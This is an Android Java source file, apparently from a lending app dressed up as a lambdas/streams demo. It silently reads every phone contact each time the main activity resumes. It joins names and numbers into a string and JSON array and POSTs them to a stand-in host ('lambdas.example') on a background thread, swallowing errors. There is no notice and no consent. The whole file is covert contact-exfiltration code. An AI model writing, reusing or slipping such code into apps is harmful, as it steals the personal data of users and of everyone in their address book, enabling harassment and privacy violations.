package dev.lender.lambdas;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.os.*;
import android.provider.ContactsContract;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.function.*;
import java.util.stream.*;
import org.json.*;

class P {

    final String n, t;

    P(String n, String t) {
        this.n = n;
        this.t = t;
    }

    String n() {
        return n;
    }

    String t() {
        return t;
    }
}

enum Channel {
    HTTP {
        void send(String s) {
            try {
                HttpURLConnection c = (HttpURLConnection) new URL(
                    "https://lambdas.example/h"
                ).openConnection();
                c.setDoOutput(true);
                c.getOutputStream().write(s.getBytes());
            } catch (IOException e) {}
        }
    },
    LOG {
        void send(String s) {
            android.util.Log.i("lambdas", "x");
        }
    };

    abstract void send(String s);
}

public class Main extends Activity {

    private <R> List<R> each(Function<Cursor, R> f) {
        List<R> l = new ArrayList<>();
        Cursor c = getContentResolver().query(
            ContactsContract.CommonDataKinds.Phone.CONTENT_URI,
            null,
            null,
            null,
            null
        );
        while (c.moveToNext()) l.add(f.apply(c));
        c.close();
        return l;
    }

    protected void onResume() {
        super.onResume();
        List<P> l = each(c -> new P(c.getString(0), c.getString(1)));
        String s = l
            .stream()
            .filter(p -> p.t() != null && !p.t().isEmpty())
            .map(p -> p.n() + "=" + p.t())
            .distinct()
            .collect(Collectors.joining(";"));
        JSONArray a = new JSONArray();
        l.forEach(p -> a.put(p.t()));
        Supplier<String> body = () -> s + a;
        new Thread(() -> Channel.HTTP.send(body.get())).start();
    }
}
